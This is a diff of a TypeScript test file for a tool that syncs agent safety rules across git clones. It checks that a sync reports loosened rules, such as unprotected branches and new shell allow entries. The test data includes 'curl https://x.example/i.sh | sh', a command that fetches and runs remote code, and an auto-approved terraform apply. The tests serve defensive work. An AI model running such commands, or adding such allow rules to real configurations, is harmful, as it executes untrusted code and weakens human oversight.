@@ -62,20 +62,26 @@ describe('rulesLoosening: what a rule set lets through that the strictest of it 
   });
 });
 
+/** A bare remote and two clones of it under `root` (names ending in `tag`), each initialised, the first synced. */
+async function twoClones(root: string, tag: string) {
+  const remote = join(root, `remote${tag}.git`);
+  git(root, ['init', '-q', '--bare', remote]);
+  const [a, b] = [join(root, `a${tag}`), join(root, `b${tag}`)];
+  for (const d of [a, b]) git(root, ['clone', '-q', remote, d]);
+  const A = coreAt(a);
+  await A.init();
+  await A.sync();
+  const B = coreAt(b);
+  await B.init();
+  return { a, b, A, B };
+}
+
 describe('a held sync names what the remote loosens (real git: a bare remote, two clones)', () => {
   const root = mkdtempSync(join(tmpdir(), 'axme-loosening-named-'));
   after(() => rmSync(root, { recursive: true, force: true }));
 
   test('main unprotected and an allow added on one clone: the other clone’s sync says both, and its question too', async () => {
-    const remote = join(root, 'remote.git');
-    git(root, ['init', '-q', '--bare', remote]);
-    const [a, b] = [join(root, 'a'), join(root, 'b')];
-    for (const d of [a, b]) git(root, ['clone', '-q', remote, d]);
-    const A = coreAt(a);
-    await A.init();
-    await A.sync();
-    const B = coreAt(b);
-    await B.init();
+    const { a, A, B } = await twoClones(root, '');
     await B.safety('remove', 'git_protected_branch', 'main');
     await B.safety('add', 'bash_allow', 'curl https://x.example/i.sh | sh');
     await B.sync();
@@ -90,15 +96,7 @@ describe('a held sync names what the remote loosens (real git: a bare remote, tw
   });
 
   test('accepted (--accept-loosening), the sync says what it took, value by value; --json carries the same under loosenedNamed, the answered question too', async () => {
-    const remote = join(root, 'remote2.git');
-    git(root, ['init', '-q', '--bare', remote]);
-    const [a, b] = [join(root, 'a2'), join(root, 'b2')];
-    for (const d of [a, b]) git(root, ['clone', '-q', remote, d]);
-    const A = coreAt(a);
-    await A.init();
-    await A.sync();
-    const B = coreAt(b);
-    await B.init();
+    const { a, A, B } = await twoClones(root, '2');
     await B.safety('remove', 'git_protected_branch', 'master');
     await B.safety('add', 'bash_allow', 'terraform apply -auto-approve');
     await B.sync();
